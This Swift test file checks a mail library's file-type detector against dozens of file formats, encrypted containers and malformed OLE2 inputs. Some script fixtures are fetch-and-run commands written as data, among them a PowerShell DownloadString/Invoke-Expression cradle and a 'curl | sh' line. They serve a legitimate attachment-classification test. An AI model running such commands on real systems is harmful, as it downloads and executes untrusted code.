import Testing

@testable import MailCore

private func detect(_ b: [UInt8]) -> FileTypeDetector.Result {
    b.withUnsafeBufferPointer { FileTypeDetector.detect($0) }
}

/// Every fixture: a name, the bytes (built by `Fixtures`, real signatures and structures) and the expected type.
private let fixtures: [(String, [UInt8], FileType)] = {
    let B = Fixtures.bytes
    let msiCLSID: [UInt8] = [0x84, 0x10, 0x0C, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]
    let wordML = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    let sheetML = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    let presML = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return [
        ("pdf", B("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"), .pdf),
        ("rtf", B("{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hello}"), .rtf),
        ("zip", Fixtures.zip([.init(name: "readme.txt", data: B("hello"))]), .zip),
        ("docx", Fixtures.ooxml(wordML, mainPart: "word/document.xml"), .docx),
        ("xlsx", Fixtures.ooxml(sheetML, mainPart: "xl/workbook.xml"), .xlsx),
        ("pptx", Fixtures.ooxml(presML, mainPart: "ppt/presentation.xml"), .pptx),
        (
            "docm",
            Fixtures.ooxml("application/vnd.ms-word.document.macroEnabled.main+xml", mainPart: "word/document.xml"),
            .docm
        ),
        (
            "xlsm", Fixtures.ooxml("application/vnd.ms-excel.sheet.macroEnabled.main+xml", mainPart: "xl/workbook.xml"),
            .xlsm
        ),
        (
            "ooxml-other", Fixtures.ooxml("application/vnd.ms-visio.drawing.main+xml", mainPart: "visio/document.xml"),
            .ooxml
        ),
        (
            "odt",
            Fixtures.zip([
                .init(name: "mimetype", data: B("application/vnd.oasis.opendocument.text"), deflated: false),
                .init(name: "content.xml", data: B("<x/>")),
            ]), .odt
        ),
        (
            "jar",
            Fixtures.zip([
                .init(name: "META-INF/MANIFEST.MF", data: B("Manifest-Version: 1.0\n")),
                .init(name: "a/Main.class", data: [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]),
            ]), .jar
        ),
        ("doc", Fixtures.ole2(streams: ["WordDocument", "1Table", "\u{5}SummaryInformation"]), .doc),
        ("xls", Fixtures.ole2(streams: ["Workbook", "\u{5}SummaryInformation"]), .xls),
        ("ppt", Fixtures.ole2(streams: ["PowerPoint Document", "Current User"]), .ppt),
        ("msg", Fixtures.ole2(streams: ["__properties_version1.0", "__substg1.0_0037001F"]), .msg),
        ("msi", Fixtures.ole2(streams: ["\u{4840}\u{3F3F}"], rootCLSID: msiCLSID), .msi),
        ("office-encrypted", Fixtures.ole2(streams: ["EncryptionInfo", "EncryptedPackage"]), .officeEncrypted),
        ("ole2-other", Fixtures.ole2(streams: ["Contents"]), .ole2),
        ("rar4", Fixtures.rar4(name: "invoice.exe"), .rar4),
        ("rar5", Fixtures.rar5(name: "invoice.exe"), .rar5),
        ("7z", Fixtures.sevenZip(encrypted: false), .sevenZip),
        ("gzip", Fixtures.gzip(B("hello hello hello"), name: "hello.txt"), .gzip),
        ("bzip2", B("BZh91AY&SY") + [0x4E, 0xEC, 0xE8, 0x36, 0, 0, 0x02, 0x51], .bzip2),
        ("xz", [0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00, 0x00, 0x04, 0xE6, 0xD6, 0xB4, 0x46], .xz),
        ("zstd", [0x28, 0xB5, 0x2F, 0xFD, 0x24, 0x05, 0x29, 0x00, 0x00], .zstd),
        ("cab", B("MSCF") + [0, 0, 0, 0] + Fixtures.le32(100) + [UInt8](repeating: 0, count: 28), .cab),
        ("tar", Fixtures.padded(Fixtures.padded(B("hello.txt"), to: 257) + B("ustar\u{0}00"), to: 512), .tar),
        ("ace", [0, 0, 0, 0, 0, 0, 0] + B("**ACE**") + [UInt8](repeating: 0, count: 20), .ace),
        ("arj", [0x60, 0xEA, 0x26, 0x00] + [UInt8](repeating: 0, count: 40), .arj),
        ("iso9660", Fixtures.iso9660(), .iso9660),
        ("udf", Fixtures.udf(), .udf),
        ("img-fat", Fixtures.fatImage(), .diskImage),
        ("vhd", [UInt8](repeating: 0, count: 4096) + Fixtures.padded(B("conectix"), to: 512), .vhd),
        ("vhdx", Fixtures.padded(B("vhdxfile"), to: 1024), .vhdx),
        ("exe", Fixtures.pe(dll: false), .exe),
        ("dll", Fixtures.pe(dll: true), .dll),
        ("dos-exe", Fixtures.padded(B("MZ"), to: 128), .dosExe),
        ("elf", [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 56), .elf),
        ("macho", [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0, 0, 0x01] + [UInt8](repeating: 0, count: 24), .macho),
        ("macho-fat", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2] + [UInt8](repeating: 0, count: 40), .macho),
        ("java-class", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52] + [UInt8](repeating: 0, count: 20), .javaClass),
        (
            "lnk",
            [0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46]
                + [UInt8](repeating: 0, count: 56), .lnk
        ),
        (
            "onenote",
            [0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3]
                + [UInt8](repeating: 0, count: 16), .onenote
        ),
        ("chm", B("ITSF") + Fixtures.le32(3) + [UInt8](repeating: 0, count: 80), .chm),
        ("html", B("<!DOCTYPE html>\n<html><body><a href=\"http://x.example/\">x</a></body></html>"), .html),
        ("html-fragment", B("\n  <table><tr><td>Invoice</td></tr></table>"), .html),
        (
            "hta",
            B("<html><head><HTA:APPLICATION ID=\"app\" WINDOWSTATE=\"minimize\"></head><script>x</script></html>"), .hta
        ),
        (
            "svg",
            B("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
            .svg
        ),
        ("xml", B("<?xml version=\"1.0\"?>\n<invoice><total>5</total></invoice>"), .xml),
        ("wsf", B("<job id=\"a\"><script language=\"JScript\">WScript.Echo(1)</script></job>"), .wsf),
        (
            "javascript",
            B("var s = new ActiveXObject(\"WScript.Shell\");\nfunction run(){ eval(String.fromCharCode(97)); }\n"),
            .javascript
        ),
        (
            "vbscript",
            B("On Error Resume Next\nDim o\nSet o = CreateObject(\"WScript.Shell\")\no.Run \"calc\"\nEnd Sub\n"),
            .vbscript
        ),
        (
            "powershell",
            B(
                "$c = New-Object System.Net.WebClient\n$d = $c.DownloadString('http://x.example/a')\nInvoke-Expression $d\n"
            ), .powershell
        ),
        ("batch", B("@echo off\r\nset /a n=1\r\ncmd /c start \"\" %TEMP%\\a.exe\r\ngoto :eof\r\n"), .batch),
        ("shell", B("#!/bin/sh\ncurl -s http://x.example/a | sh\n"), .shell),
        ("url-shortcut", B("[InternetShortcut]\r\nURL=http://evil.example/\r\n"), .urlShortcut),
        (
            "png",
            [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D] + B("IHDR")
                + [UInt8](repeating: 0, count: 13), .png
        ),
        (
            "jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + B("JFIF") + [0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9], .jpeg
        ),
        ("gif", B("GIF89a") + [1, 0, 1, 0, 0x80, 0, 0] + [UInt8](repeating: 0, count: 12), .gif),
        ("webp", B("RIFF") + Fixtures.le32(26) + B("WEBPVP8 ") + [UInt8](repeating: 0, count: 18), .webp),
        (
            "bmp",
            B("BM") + Fixtures.le32(70) + Fixtures.le32(0) + Fixtures.le32(54) + Fixtures.le32(40)
                + [UInt8](repeating: 0, count: 52), .bmp
        ),
        ("tiff-le", [0x49, 0x49, 0x2A, 0x00, 8, 0, 0, 0] + [UInt8](repeating: 0, count: 16), .tiff),
        ("tiff-be", [0x4D, 0x4D, 0x00, 0x2A, 0, 0, 0, 8] + [UInt8](repeating: 0, count: 16), .tiff),
        (
            "ico",
            [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0] + Fixtures.le32(40) + Fixtures.le32(22)
                + [UInt8](repeating: 0, count: 40), .ico
        ),
        (
            "ics",
            B("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
            .ics
        ),
        ("vcard", B("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A\r\nEND:VCARD\r\n"), .vcard),
        (
            "email",
            B(
                "Received: from a by b; Mon, 1 Jan 2024 00:00:00 +0000\r\nFrom: a@example.com\r\nSubject: hi\r\n\r\nbody\r\n"
            ), .email
        ),
        ("email-one-field", B("Subject: An enclosed message\n\nHello\n"), .email),
        ("email-mbox-line", B("From a@b Tue May 10 11:28:07 2005\nReturn-Path: <a@b>\nFrom: a@b\n\nhi\n"), .email),
        (
            "email-html-body",
            B("From: a@example.com\nSubject: x\nContent-Type: text/html\n\n<html><body>hi</body></html>"), .email
        ),
        (
            "url-shortcut-default",
            B("[DEFAULT]\r\nBASEURL=http://x.example/\r\n[InternetShortcut]\r\nURL=http://x.example/\r\n"), .urlShortcut
        ),
        ("text", B("Dear customer,\nplease find the invoice attached.\nRegards\n"), .text),
        (
            "text-utf16",
            [0xFF, 0xFE] + Array("Hello, world\r\n".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }), .text
        ),
        ("empty", [], .empty),
        ("binary", (0..<512).map { UInt8(($0 * 73 + 11) & 0xFF) }, .binary),
    ]
}()

@Suite struct FileTypeDetectorTests {
    @Test(arguments: fixtures.indices)
    func detects(_ i: Int) {
        let (name, bytes, expected) = fixtures[i]
        #expect(detect(bytes).type == expected, "fixture \(name)")
    }

    @Test func everyTypeOfTheIssueHasAFixture() {
        let covered = Set(fixtures.map(\.2))
        let required: [FileType] = [
            .pdf, .zip, .docx, .xlsx, .pptx, .doc, .xls, .ppt, .msg, .msi, .rtf, .rar4, .rar5, .sevenZip, .gzip,
            .bzip2, .xz, .zstd, .cab, .iso9660, .udf, .diskImage, .exe, .dll, .elf, .macho, .lnk, .html, .javascript,
            .vbscript, .powershell, .hta, .batch, .png, .jpeg, .gif, .webp, .bmp, .tiff, .ics, .text,
        ]
        #expect(required.filter { !covered.contains($0) } == [])
    }

    @Test func encryptionIsSeen() {
        #expect(detect(Fixtures.bytes("%PDF-1.4\ntrailer << /Encrypt 5 0 R >>\n%%EOF")).encrypted)
        #expect(!detect(fixtures[0].1).encrypted)
        #expect(detect(Fixtures.zip([.init(name: "a.exe", data: [1, 2, 3], encrypted: true)])).encrypted)
        #expect(detect(Fixtures.rar4(name: "a.exe", encryptedFile: true)).encrypted)
        #expect(detect(Fixtures.rar4(name: "a.exe", encryptedHeaders: true)).encrypted)
        #expect(detect(Fixtures.rar5(name: "a.exe", encryptedFile: true)).encrypted)
        #expect(detect(Fixtures.rar5(name: "a.exe", encryptedHeaders: true)).encrypted)
        #expect(!detect(Fixtures.rar5(name: "a.exe")).encrypted)
        #expect(detect(Fixtures.sevenZip(encrypted: true)).encrypted)
        #expect(!detect(Fixtures.sevenZip(encrypted: false)).encrypted)
        #expect(detect(Fixtures.ole2(streams: ["EncryptionInfo", "EncryptedPackage"])).encrypted)
    }

    @Test func prefixesOfContainersStillDetect() {
        // The first 4 KiB of a docx: no central directory, but `[Content_Types].xml` comes first.
        let docx =
            Fixtures.ooxml(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                mainPart: "word/document.xml") + [UInt8](repeating: 0x20, count: 8192)
        let head = Array(docx.prefix(4096))
        let r = head.withUnsafeBufferPointer { FileTypeDetector.detect($0, isPrefix: true) }
        #expect(r.type == .docx)
    }

    @Test func truncatedAndHostileInputsDoNotTrap() {
        for (_, bytes, _) in fixtures {
            for cut in [1, 2, 7, 31, 64, 300, 1000] where cut < bytes.count {
                _ = detect(Array(bytes.prefix(cut)))
                _ = detect(Array(bytes.suffix(cut)))
            }
            var flipped = bytes
            for k in stride(from: 8, to: flipped.count, by: 3) { flipped[k] ^= 0xFF }
            _ = detect(flipped)
        }
        // An OLE2 header whose FAT chain points to itself terminates.
        var ole = Fixtures.ole2(streams: ["WordDocument"])
        ole.replaceSubrange(512 + 4..<512 + 8, with: Fixtures.le32(1))
        #expect(detect(ole).type == .doc)
    }

    /// A compound file whose DIFAT lists the one FAT sector 65,536 times and chains back to itself 4,096 times
    /// (a 2 KB file that used to build an 8-million-entry FAT) is read with a FAT no larger than the file, and its
    /// directory is still found.
    @Test func loopingDIFATBuildsASmallFAT() {
        var b = Fixtures.ole2(streams: ["WordDocument", "1Table"])
        func put(_ v: Int, at o: Int) { b.replaceSubrange(o..<(o + 4), with: Fixtures.le32(v)) }
        put(65_536, at: 0x2C)  // FAT sectors
        put(2, at: 0x44)  // first DIFAT sector: sector 2, right after the directory
        put(4096, at: 0x48)  // DIFAT sectors
        for k in 1..<109 { put(0, at: 0x4C + 4 * k) }
        var difat: [UInt8] = []
        for _ in 0..<127 { difat += Fixtures.le32(0) }
        difat += Fixtures.le32(2)  // the next DIFAT sector is this one
        b += difat
        let fat = b.withUnsafeBufferPointer { OLE2.directoryNames($0)?.fatEntries }
        #expect(fat == 128)  // one FAT sector's entries already cover every sector of the file
        #expect(b.withUnsafeBufferPointer { FileTypeDetector.detect($0).type } == .doc)
    }

}
